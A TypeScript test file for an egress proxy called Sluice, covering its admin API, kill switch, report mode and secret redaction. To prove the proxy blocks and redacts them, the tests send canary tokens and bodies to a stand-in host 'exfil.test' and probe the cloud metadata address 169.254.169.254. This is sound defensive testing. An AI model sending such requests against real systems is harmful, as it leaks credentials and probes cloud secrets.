// Running Sluice: the admin API (health, metrics, kill switch, reload), report mode, and the promise that no
// secret a client sends ends up in a log line, a metric or an error body. In a namespace holding only lo.
import { request } from 'node:http';
import { connect } from 'node:net';
import { rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { AGENT_AUTH, basic, codeOf, rawExchange, startSluice, viaProxy, settles, waitFor } from '../helpers/harness.js';
import { CANARY_PATHS, CANARY_SECRETS } from '../helpers/canary.js';
import { isolate } from '../helpers/netns.js';
import { PASSWORD, buildWorld, worldConfig } from '../helpers/world.js';

function admin(
  port: number,
  method: string,
  path: string,
  opts: { token?: string; body?: string } = {},
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(
      { host: '127.0.0.1', port, method, path, headers: opts.token ? { authorization: `Bearer ${opts.token}` } : {} },
      (res) => {
        let body = '';
        res.on('data', (c) => (body += c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    req.on('error', reject);
    req.end(opts.body);
  });
}

if (isolate(t, import.meta.url)) {
  const w = await buildWorld(t);
  const tokenFile = join(tmpdir(), `sluice-admin-token-${process.pid}`);
  const killFile = join(tmpdir(), `sluice-kill-${process.pid}`);
  const ADMIN_TOKEN = 'admin-token-0123456789abcdef0123';
  writeFileSync(tokenFile, ADMIN_TOKEN + '\n');
  t.teardown(() => rmSync(killFile, { force: true }));
  let reloads = 0;
  const h = await startSluice(
    t,
    worldConfig(w, {
      listen: { http: '127.0.0.1:0', socks5: null, admin: '127.0.0.1:0' },
      admin: { tokenFile },
      killSwitch: { file: killFile },
      identities: {
        agent: { password: PASSWORD, integrations: ['api', 'gh'] },
        auditor: { password: PASSWORD, reads: 'none', mode: 'report' },
      },
    }),
    { reload: async () => ({ ok: ++reloads > 0, issues: [], restartRequired: [] }) },
  );
  const adminPort = h.adminPort!;
  const pub = `http://public.test:${w.publicHttp.port}`;

  t.test('health, readiness and metrics', async (t) => {
    t.same(await admin(adminPort, 'GET', '/healthz'), { status: 200, body: 'ok\n' });
    t.equal((await admin(adminPort, 'GET', '/readyz')).status, 200);
    await viaProxy(h.port, { url: `${pub}/m` });
    const m = await admin(adminPort, 'GET', '/metrics');
    t.equal(m.status, 200);
    t.match(m.body, /sluice_requests_total\{listener="http",verdict="allow",code="none",identity="agent"\} \d+/);
    t.match(m.body, /process_cpu_user_seconds_total/, 'default process metrics');
    t.match(m.body, /sluice_kill_switch_engaged 0/);
    t.notMatch(m.body, /public\.test|127\.0\.0\.2/, 'no hosts or addresses in metrics');
  });

  t.test('on loopback (protectReads off by default) reads need no token; health never does', async (t) => {
    t.equal(h.sluice.state.config().admin.protectReads, false);
    t.equal((await admin(adminPort, 'GET', '/metrics')).status, 200);
    t.equal((await admin(adminPort, 'GET', '/v1/kill-switch')).status, 200);
  });

  t.test(
    'admin.protectReads: /metrics and GET /v1/kill-switch need the bearer token; /healthz and /readyz do not',
    async (t) => {
      const p = await startSluice(
        t,
        worldConfig(w, {
          listen: { http: '127.0.0.1:0', socks5: null, admin: '127.0.0.1:0' },
          admin: { tokenFile, protectReads: true },
        }),
      );
      const port = p.adminPort!;
      for (const path of ['/metrics', '/v1/kill-switch']) {
        const none = await admin(port, 'GET', path);
        t.equal(none.status, 401, `${path} without a token`);
        t.notMatch(none.body, /sluice_|identity|engaged/, 'and nothing of it in the refusal');
        t.equal((await admin(port, 'GET', path, { token: 'wrong' })).status, 401, `${path} with a wrong token`);
        t.equal((await admin(port, 'GET', path, { token: ADMIN_TOKEN })).status, 200, `${path} with the token`);
      }
      t.match((await admin(port, 'GET', '/metrics', { token: ADMIN_TOKEN })).body, /sluice_kill_switch_engaged 0/);
      t.equal((await admin(port, 'GET', '/healthz')).status, 200);
      t.equal((await admin(port, 'GET', '/readyz')).status, 200);
    },
  );

  t.test('mutating endpoints need the bearer token', async (t) => {
    t.equal((await admin(adminPort, 'POST', '/v1/kill-switch', { body: '{"engaged":true}' })).status, 401);
    t.equal(
      (await admin(adminPort, 'POST', '/v1/kill-switch', { token: 'wrong', body: '{"engaged":true}' })).status,
      401,
    );
    t.equal(
      (await admin(adminPort, 'POST', '/v1/kill-switch', { token: ADMIN_TOKEN, body: '{"engaged":"yes"}' })).status,
      400,
    );
    t.equal(h.sluice.state.killSwitch(), false, 'nothing changed');
    const r = await admin(adminPort, 'POST', '/v1/reload', { token: ADMIN_TOKEN });
    t.equal(r.status, 200);
    t.equal(reloads, 1);
  });

  t.test('the kill switch from the API: new requests denied, open tunnels closed, metric set', async (t) => {
    const s = connect(h.port, '127.0.0.1');
    s.write(
      `CONNECT registry.test:443 HTTP/1.1\r\nHost: registry.test:443\r\nProxy-Authorization: ${AGENT_AUTH}\r\n\r\n`,
    );
    await new Promise((r) => s.once('data', r));
    const closed = new Promise<number>((r) => {
      const started = Date.now();
      s.on('close', () => r(Date.now() - started));
      s.on('error', () => undefined);
    });
    const on = await admin(adminPort, 'POST', '/v1/kill-switch', { token: ADMIN_TOKEN, body: '{"engaged":true}' });
    t.same(JSON.parse(on.body), { engaged: true });
    t.ok(await settles(closed), 'the open tunnel was closed');
    const r = await viaProxy(h.port, { url: `${pub}/` });
    t.equal(codeOf(r), 'EGR_DENY_KILL_SWITCH');
    const report = await viaProxy(h.port, { url: `${pub}/`, auth: basic('auditor', PASSWORD) });
    t.equal(codeOf(report), 'EGR_DENY_KILL_SWITCH', 'report mode does not lift it');
    t.match((await admin(adminPort, 'GET', '/metrics')).body, /sluice_kill_switch_engaged 1/);
    await admin(adminPort, 'POST', '/v1/kill-switch', { token: ADMIN_TOKEN, body: '{"engaged":false}' });
    t.equal((await viaProxy(h.port, { url: `${pub}/` })).status, 200, 'disengaging restores service');
  });

  t.test('the kill switch file', async (t) => {
    writeFileSync(killFile, '');
    await waitFor(() => h.sluice.state.killSwitch());
    t.equal(codeOf(await viaProxy(h.port, { url: `${pub}/` })), 'EGR_DENY_KILL_SWITCH');
    rmSync(killFile);
    await waitFor(() => !h.sluice.state.killSwitch());
    t.equal((await viaProxy(h.port, { url: `${pub}/` })).status, 200);
  });

  t.test('report mode: would-be denials pass and are logged; the guard still enforces', async (t) => {
    const auth = basic('auditor', PASSWORD);
    const read = await viaProxy(h.port, { url: `${pub}/report`, auth });
    t.equal(read.status, 200, 'reads: none would deny, report mode allows');
    const rec = h.decisions().findLast((d) => d.identity === 'auditor');
    t.match(rec, { verdict: 'allow', wouldDeny: 'EGR_DENY_READ', rule: 'mode.report' });
    const hits = w.forbiddenHits();
    const meta = await viaProxy(h.port, { url: 'http://meta.test/latest/meta-data/', auth });
    t.equal(codeOf(meta), 'EGR_DENY_ADDRESS_LINK_LOCAL', 'the address guard always enforces');
    const literal = await viaProxy(h.port, { url: 'http://169.254.169.254/', auth });
    t.equal(
      codeOf(literal),
      'EGR_DENY_ADDRESS_LINK_LOCAL',
      'an IP literal would be denied, and the guard denies it for real',
    );
    t.equal(w.forbiddenHits(), hits);
    const bad = await viaProxy(h.port, { url: `${pub}/`, auth: basic('auditor', 'wrong') });
    t.equal(codeOf(bad), 'EGR_AUTH_INVALID', 'auth is still enforced');
  });

  t.test('nothing admin is reachable through the proxy', async (t) => {
    const literal = await viaProxy(h.port, { url: `http://127.0.0.1:${adminPort}/metrics` });
    t.equal(codeOf(literal), 'EGR_DENY_IP_LITERAL');
    w.dns.set('admin.test', { a: ['127.0.0.1'] });
    const named = await viaProxy(h.port, { url: `http://admin.test:${adminPort}/metrics` });
    t.equal(codeOf(named), 'EGR_DENY_ADDRESS_SELF');
    const tunnel = await rawExchange(
      h.port,
      `CONNECT admin.test:443 HTTP/1.1\r\nHost: admin.test:443\r\nProxy-Authorization: ${AGENT_AUTH}\r\n\r\n`,
    );
    t.match(tunnel.text, /EGR_DENY_TUNNEL/);
  });

  t.test('canary secrets never reach a log line, a metric or an error body', async (t) => {
    const CANARY = CANARY_SECRETS;
    // Sluice's own answers (denials and failures, which carry Proxy-Status); allowed requests echo the
    // origin's response, which is the origin's business.
    const bodies: string[] = [];
    const send = async (o: Parameters<typeof viaProxy>[1]) => {
      const r = await viaProxy(h.port, o);
      if (r.headers['proxy-status']) bodies.push(JSON.stringify(r.headers) + r.body);
    };
    await send({ url: `${pub}/`, auth: basic('agent', CANARY.proxyPass) });
    await send({
      url: `${pub}/?token=${CANARY.query}&q=${CANARY.ghp}`,
      headers: { authorization: `Bearer ${CANARY.bearer}` },
    });
    await send({
      method: 'POST',
      url: `http://exfil.test/?k=${CANARY.query}`,
      body: CANARY.body,
      headers: { authorization: `Bearer ${CANARY.bearer}` },
    });
    await send({
      method: 'POST',
      url: `http://api.test/hook?secret=${CANARY.query}`,
      body: CANARY.body,
      headers: { authorization: `token ${CANARY.ghp}` },
    });
    await send({ url: `http://user:${CANARY.userinfo}@public.test:${w.publicHttp.port}/` });
    await send({ url: `http://${CANARY.userinfo}.test/` }); // hosts are logged by design; see below
    // Secrets in the path itself, allowed (a read) and denied (a write to a host that is no integration).
    for (const path of CANARY_PATHS) {
      await send({ url: `${pub}${path}` });
      await send({ method: 'POST', url: `http://exfil.test${path}`, body: 'x' });
    }
    bodies.push(
      (
        await rawExchange(
          h.port,
          `GET http://u:${CANARY.userinfo}@x.test/ HTTP/1.1\r\nHost: x\r\nProxy-Authorization: ${basic('agent', CANARY.proxyPass)}\r\n\r\n`,
        )
      ).text,
    );
    const metrics = (await admin(adminPort, 'GET', '/metrics')).body;
    const haystacks = { logs: h.logText(), metrics, bodies: bodies.join('\n') };
    for (const [where, text] of Object.entries(haystacks)) {
      for (const [name, secret] of Object.entries(CANARY)) {
        if (name === 'userinfo' && where === 'logs') {
          // The one request that names the canary as a host is logged with its target host: hosts are
          // logged by design. Every other occurrence (userinfo) must be absent.
          t.notMatch(
            text.replace(new RegExp(`"target\\.host":"${secret.toLowerCase()}\\.test"`, 'g'), ''),
            new RegExp(secret, 'i'),
            `${name} in ${where}`,
          );
          continue;
        }
        t.notMatch(text, new RegExp(secret, 'i'), `${name} in ${where}`);
      }
    }
    t.notMatch(h.logText(), new RegExp(PASSWORD), 'configured passwords are never logged');
    const rec = h
      .decisions()
      .find((d) => typeof d['target.path'] === 'string' && (d['target.path'] as string).startsWith('/?token='));
    t.equal(rec?.['target.path'], '/?token=&q=', 'query strings are logged as keys only');
    const paths = h.decisions().map((d) => d['target.path']);
    t.ok(
      paths.includes('/services/T0CANARY1/B0CANARY2/[redacted]'),
      'a webhook path is logged with its secret segment redacted',
    );
    t.ok(paths.includes('/[redacted]/sendMessage'), 'a bot-token segment is redacted');
    t.ok(paths.includes('/app;jsessionid=;token=/x'), 'matrix parameters keep their names only');
    t.ok(paths.includes('/hook?[redacted]'), 'a key-only query that is not a word is redacted');
  });
}
